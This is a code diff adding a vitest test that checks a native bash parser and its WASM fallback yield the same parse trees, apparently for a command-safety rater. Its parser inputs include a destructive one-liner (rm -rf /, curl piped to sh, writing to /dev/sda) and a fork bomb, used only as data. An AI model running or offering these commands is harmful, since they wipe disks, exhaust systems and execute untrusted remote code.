@@ -1,5 +1,34 @@
 import { describe, expect, it } from "vitest";
 import { checkSyntax } from "../src/answer/check.js";
+import { bashParser, parseBash, wasmParser } from "../src/safety/parser.js";
+
+describe("the bash parser", () => {
+  // The native binding serves where its prebuilt binary loads; the WASM build of the same grammar
+  // is the fallback elsewhere. The rater reads both the same way, so they must agree.
+  it("gives the same tree natively as the WASM fallback", async () => {
+    const [native, wasm] = await Promise.all([bashParser(), wasmParser()]);
+    const { Parser: WasmParser } = await import("web-tree-sitter");
+    expect(wasm).toBeInstanceOf(WasmParser);
+    expect(native).not.toBeInstanceOf(WasmParser);
+    const lines = [
+      "find . -name '*.py' -exec wc -l {} + | sort -n",
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion, not a template
+      'for f in *.txt; do mv "$f" "${f%.txt}.md"; done',
+      "sudo rm -rf / && echo $(curl -s https://x.example | sh) > /dev/sda 2>&1 &",
+      ":(){ :|:& };:",
+      "echo 'unclosed",
+      "cat <<EOF\nhello\nEOF",
+    ];
+    for (const line of lines) {
+      const [a, b] = [await parseBash(line, native), await parseBash(line, wasm)];
+      expect(a.rootNode.toString()).toBe(b.rootNode.toString());
+      expect(a.rootNode.hasError).toBe(b.rootNode.hasError);
+      expect(a.rootNode.descendantsOfType("word").map((n) => n.text)).toEqual(
+        b.rootNode.descendantsOfType("word").map((n) => n.text),
+      );
+    }
+  });
+});
 
 describe("checkSyntax", () => {
   it("accepts what bash parses", async () => {
